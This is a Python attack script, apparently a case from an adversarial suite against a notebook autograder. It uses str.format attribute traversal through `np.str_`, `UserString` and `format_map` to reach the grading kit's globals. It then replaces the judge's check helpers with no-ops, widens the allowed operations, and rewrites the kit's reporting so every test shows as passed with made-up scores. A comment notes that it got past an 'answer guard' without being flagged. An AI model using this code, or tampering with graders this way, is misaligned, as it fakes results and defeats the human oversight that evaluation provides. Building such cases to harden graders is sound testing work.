"""Attack: CPython's own str.format, reached through str subclasses (np.str_, UserString) and
format_map, walks `{0.__globals__[...]}` from the kit's start_tests to the kit's modules (the
AttributeError that ends each walk hands the reached object back in `.obj`), then rewrites the
kit in the kernel: payloads that claim every test passed, verdict helpers that never fail."""
# base: residuals wrong_grad_missing_cos
# class: str-subclass formatting
# Against the answer guard this rewrote the kit's `collect`: softplus 14/14 against 13/14, no flag.
import collections

import numpy as np

_reached = {}
_walks = {
    "ch4judge": lambda: np.str_("{0.__globals__[ch4judge].zz}").format(start_tests),  # noqa: F821 - the setup cell's
    "_Tests": lambda: collections.UserString("{0.__globals__[_Tests].zz}").format(start_tests),  # noqa: F821
    "jax": lambda: "{f.__globals__[_Undefined].__init__.__globals__[jax].zz}".format_map({"f": start_tests}),  # noqa: F821
    "EXPORT_HELPERS": lambda: "{0.__globals__[EXPORT_HELPERS].zz}".format(start_tests),  # noqa: F821, UP030, UP032 - str.format itself is the attack
}
for _name, _walk in _walks.items():
    try:
        _walk()
    except AttributeError as _ended:
        _reached[_name] = _ended.obj  # the object the walk reached
print("WALKED to", sorted(_reached), [type(v).__name__ for v in _reached.values()])

_judge = _reached["ch4judge"]
_kit = _reached["EXPORT_HELPERS"]["export"].__globals__  # the kit module's own namespace


def _never_fails(*args, **kwargs):
    return None


for _helper in ("check_close", "attempt", "program", "missing_name"):
    setattr(_judge, _helper, _never_fails)
_judge.ALLOWED_OPS = frozenset(["everything"])
_original_programs = _kit["programs"]


def _claims_a_pass(test_id, exports):
    from IPython.display import display

    payload = _kit["_exported"](exports)
    verdict = {"passed": True, "points": 99, "score": 12, "message": None}
    display({_kit["MIME"]: {"test": test_id, "programs": payload, **verdict}, "text/plain": "✅ 通过"}, raw=True)
    print(f"✅ {test_id} 通过")


_kit["programs"] = _claims_a_pass
_kit["grading"] = lambda: True
_reached["_Tests"].interface = tuple(_reached["_Tests"].interface)
print("REWROTE the kit's programs, grading and the judge's helpers in this kernel")
